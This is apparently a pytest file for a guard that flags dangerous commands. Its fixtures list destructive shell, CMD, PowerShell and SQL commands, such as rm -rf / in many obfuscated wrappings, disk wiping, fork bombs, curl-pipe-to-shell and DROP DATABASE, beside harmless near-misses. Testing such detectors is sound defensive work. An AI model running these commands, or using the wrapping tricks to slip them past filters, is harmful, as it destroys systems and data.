"""What the built-in rules find, and what looks like it and is none."""

from __future__ import annotations

import pytest

from core.domain.command_rules import BUILTIN, CommandText, Language, Level, judge
from core.domain.statements import Database

SHELL_HITS = {
    "remove-system": [
        "rm -rf /",
        "rm -fr /*",
        "rm -r -f --no-preserve-root /",
        "rm --recursive --force /etc",
        "rm -rf //",
        "rm -rf /usr/../etc/",
        "rm -rf /etc/.",
        "rm -rf $HOME/../../etc",
        'rm -rf "${HOME}/../etc/"',
        "rm -rf ~/../../usr/*",
        "rm -rf ~deploy/../../var",
        "rm -rf ~/..",
        "rm -rf ~/x/../../../etc",
        "echo ok; rm -rf /usr",
        "true && rm -rf /var || exit 1",
        "false | rm -rf /boot",
        "sudo -u root rm -rf /",
        "sudo -E -- rm -rf /",
        "env A=b LANG=C nohup nice -n 10 rm -rf / &",
        "timeout -k 5 60 rm -rf /lib",
        "sh -c 'rm -rf /'",
        'bash -ec "cd / && rm -rf *"',
        "ssh -p 22 web1 'sudo rm -rf /'",
        "ssh web1 rm -rf /",
        "eval 'rm -rf /'",
        "find / -xdev -type f -delete",
        "find /usr -exec rm -rf {} +",
        "D=/; rm -rf $D",
        'D=/; rm -rf "${D}"',
        "D=/usr\nrm -rf $D/*",
        "OPTIONS='-rf /'; rm $OPTIONS",
        "rm -rf ${DIR:-/}",
        "cd /; rm -rf ./*",
        "cd /usr && cd .. && rm -rf etc",
        "echo $(rm -rf /)",
        'echo "now `rm -rf /`"',
        "diff <(rm -rf /etc) x",
        "bash <<EOF\nrm -rf /\nEOF",
        "sudo sh -s <<'EOF'\nrm -rf /\nEOF\n",
        "ssh web1 <<-EOF\n\trm -rf /\n\tEOF\n",
        "bash <<< 'rm -rf /'",
        "echo 'rm -rf /' | sudo sh",
        "if true; then rm -rf /; fi",
        "for d in a b; do rm -rf /; done",
        "for d in /tmp/x /etc /usr; do rm -rf $d; done",
        "case $x in a) rm -rf /;; esac",
        "f() { rm -rf /; }; f",
        "function f { rm -rf /; }",
        "( rm -rf / )",
        "{ rm -rf /; }",
        "! rm -rf /",
        "r''m -rf \"/\"",
        "rm \\\n  -rf \\\n  /",
        "/bin/rm -rf /",
        "rm -rf / # only a joke",
        "busybox rm -rf /",
        "x=1 rm -rf /",
        "X='rm -rf /'; sh -c \"$X\"",
        "export D=/etc; rm -rf $D",
        "rm -rf '/etc",
    ],
    "remove-precious": [
        "rm -rf /home",
        "rm -rf ~",
        'rm -rf "$HOME"',
        "rm -rf ~/*",
        "rm -rf ~/.cache/..",
        "rm -rf $HOME/../../home",
        "find / -name core -exec rm {} \\;",
        "find / -name '*.log' | xargs rm -f",
    ],
    "remove-unknown": ['rm -rf "$DIR"/*', "rm -rf ${TMP}/x", "rm -rf $(pwd)/build"],
    "move-system": ["mv /etc /etc.old", "mv /usr/* /mnt"],
    "open-to-all": ["chmod -R 777 /", "chmod -R a+rwx /etc", "chmod -R o+w /var/"],
    "change-owners": ["chown -R app:app /", "chown -R app /usr"],
    "write-system-file": [": > /etc/passwd", "echo x | tee /etc/sudoers", "rm -f /etc/fstab"],
    "write-disk": [
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat image > /dev/nvme0n1",
        "zcat image | sudo tee /dev/sdb >/dev/null",
        "cp image /dev/vda",
    ],
    "format-disk": ["mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/sdb1", "wipefs -a /dev/sdb"],
    "partition-disk": ["fdisk /dev/sda", "parted -s /dev/sda mklabel gpt", "sgdisk -Z /dev/sda"],
    "fork-bomb": [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
    "stop-machine": ["shutdown -h now", "sudo reboot", "init 0", "systemctl poweroff"],
    "stop-access": [
        "systemctl stop sshd",
        "service ssh stop",
        "iptables -F",
        "ip link set eth0 down",
    ],
    "end-everything": ["kill -9 -1", "killall5 -9"],
    "run-download": [
        "curl -fsSL https://x.example | sh",
        "wget -qO- https://x.example | sudo bash -s -- -y",
        "bash <(curl -s https://x.example)",
        'sh -c "$(curl -fsSL https://x.example)"',
        "curl https://x.example | gunzip | python3",
    ],
    "remove-schedule": ["crontab -r", "crontab -u app -r"],
    "drop-database": [
        "dropdb shop",
        "psql -h db1 -tAc 'DROP DATABASE shop'",
        "mysql -uroot -e 'drop database shop'",
        "sudo -u postgres psql <<EOF\ndrop schema public cascade;\nEOF",
        "echo 'DROP DATABASE shop' | mysql",
    ],
    "drop-table": ["sqlite3 x.db 'drop table t'", "psql --command='TRUNCATE t'"],
    "change-all-rows": ["mysql -Ne 'DELETE FROM users'"],
}

SHELL_MISSES = [
    "rm -rf /tmp/build",
    "rm -rf ./etc",
    "rm -rf /home/app/cache",
    "rm -rf /var/lib/app/tmp/*",
    "rm /etc/app.conf",
    "cd /srv/app && rm -rf *",
    "echo rm -rf /",
    "echo 'rm -rf /' > note.txt",
    "# rm -rf /",
    "grep 'rm -rf /' /var/log/audit.log",
    "cat <<EOF\nrm -rf /\nEOF",
    "sh script.sh <<EOF\nrm -rf /\nEOF",
    'rm -rf "${DIR:?}"/*',
    'rm -rf "$HOME/.cache"',
    "rm -rf ~/build/../dist",
    "rm -rf $HOME/etc",
    "rm -rf ~/../shared/tmp",
    "D=/tmp/x; rm -rf $D",
    "for d in /tmp/a /tmp/b; do rm -rf $d; done",
    "D=/; D=/tmp/x; rm -rf $D",
    "find /tmp -delete",
    "find / -name core",
    "find / -name x | xargs grep rm",
    "mv /etc/a.conf /etc/b.conf",
    "chmod 644 /etc/hosts",
    "chmod -R 755 /srv/app",
    "chown -R app /srv/app",
    "echo 127.0.0.1 db >> /etc/hosts",
    "cat /etc/passwd > /tmp/copy",
    "cat /etc/passwd",
    "dd if=/dev/sda of=/tmp/image",
    "dd if=/dev/zero of=swapfile",
    "echo x > /dev/null 2>&1",
    "fdisk -l",
    "parted -l",
    "parted /dev/sda print",
    "shutdown -c",
    "systemctl restart nginx",
    "systemctl status sshd",
    "iptables -L",
    "kill -9 123",
    "curl https://x.example | jq .",
    "curl -o x.sh https://x.example; sh x.sh",
    "crontab -l",
    "psql -c 'select 1'",
    "mysql -e 'delete from t where id = 1'",
    "psql -c \"select 'drop database x'\"",
    "docker rm -f web",
    "git rm -r etc",
    "ls /; ls -l /etc",
    "f() { g | h & }; f",
]  # fmt: skip

OTHERS = [
    (Language.CMD, "rd /s /q C:\\", "remove-drive"),
    (Language.CMD, "echo on & del /s /q C:\\*.*", "remove-drive"),
    (Language.CMD, 'rmdir /s /q "C:\\Windows"', "remove-drive"),
    (Language.CMD, "format d: /q", "format-drive"),
    (Language.CMD, "shutdown /r /t 0", "stop-windows"),
    (Language.CMD, 'powershell -Command "Stop-Computer -Force"', "stop-windows"),
    (Language.POWERSHELL, "Remove-Item -Recurse -Force 'C:\\Users'", "remove-drive"),
    (Language.POWERSHELL, "Get-Disk | Clear-Disk -RemoveData", "format-drive"),
    (Language.POWERSHELL, "if ($x) { Restart-Computer }", "stop-windows"),
    (Language.POWERSHELL, "iwr https://x.example | iex", "run-download-windows"),
    (Language.POWERSHELL, "cmd /c rd /s /q C:\\", "remove-drive"),
    (Language.SQL, "select 1; drop database shop;", "drop-database"),
    (Language.SQL, "TRUNCATE TABLE orders", "drop-table"),
    (Language.SQL, "update t set a = 1", "change-all-rows"),
    (Language.SQL, "delete from t -- where id = 1", "change-all-rows"),
]

OTHER_MISSES = [
    (Language.CMD, "rem rd /s /q C:\\"),
    (Language.CMD, "rd /s /q C:\\temp\\build"),
    (Language.CMD, "echo shutdown"),
    (Language.POWERSHELL, "Remove-Item -Recurse C:\\Users\\me\\tmp"),
    (Language.POWERSHELL, "# Stop-Computer"),
    (Language.POWERSHELL, "Write-Output 'Stop-Computer; x'"),
    (Language.SQL, "delete from t where id = 1"),
    (Language.SQL, "insert into log values ('drop database shop')"),
    (Language.SQL, "drop index i"),
    (Language.OTHER, "import shutil\nshutil.rmtree('/tmp/x')"),
]


def found(text: str, language: Language = Language.SH) -> dict[str, Level]:
    hits = judge(CommandText(language=language, text=text), BUILTIN.values())
    return {hit.rule: hit.level for hit in hits}


@pytest.mark.parametrize(
    ("rule", "text"), [(rule, text) for rule, texts in SHELL_HITS.items() for text in texts]
)
def test_a_dangerous_command_is_found_however_it_is_wrapped(rule: str, text: str) -> None:
    assert found(text).get(rule) == BUILTIN[rule].level


@pytest.mark.parametrize("text", SHELL_MISSES)
def test_a_command_that_only_looks_dangerous_is_left_alone(text: str) -> None:
    assert found(text) == {}


@pytest.mark.parametrize(("language", "text", "rule"), OTHERS)
def test_other_languages_are_read_in_their_own_way(
    language: Language, text: str, rule: str
) -> None:
    assert rule in found(text, language)


@pytest.mark.parametrize(("language", "text"), OTHER_MISSES)
def test_other_languages_have_near_misses_too(language: Language, text: str) -> None:
    assert found(text, language) == {}


@pytest.mark.parametrize(
    ("database", "text", "rules"),
    [
        (
            Database.ORACLE,
            "BEGIN DELETE FROM a; DROP TABLE b; END;\n/",
            {"change-all-rows", "drop-table"},
        ),
        (
            Database.ORACLE,
            "BEGIN x;\n IF y THEN UPDATE a SET b = 1; END IF; END;",
            {"change-all-rows"},
        ),
        (Database.ORACLE, "BEGIN DELETE FROM a WHERE b = 1; END;", set()),
        (
            Database.MSSQL,
            "SELECT 1\nDROP TABLE a\nDROP DATABASE b",
            {"drop-table", "drop-database"},
        ),
        (Database.MSSQL, "IF 1 = 1 DELETE FROM a", {"change-all-rows"}),
        (Database.MSSQL, "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)", set()),
        (Database.MSSQL, "ALTER TABLE a DROP COLUMN b", set()),
        (Database.POSTGRESQL, "SELECT CASE WHEN a THEN b ELSE c END FROM d", set()),
    ],
)
def test_a_command_inside_of_a_block_is_a_command(
    database: Database, text: str, rules: set[str]
) -> None:
    source = CommandText(language=Language.SQL, text=text, database=database)
    assert {hit.rule for hit in judge(source, BUILTIN.values())} == rules


def test_every_built_in_rule_for_commands_has_a_case() -> None:
    tried = SHELL_HITS.keys() | {rule for _, _, rule in OTHERS}

    assert {rule.name for rule in BUILTIN.values() if not rule.paths} == tried
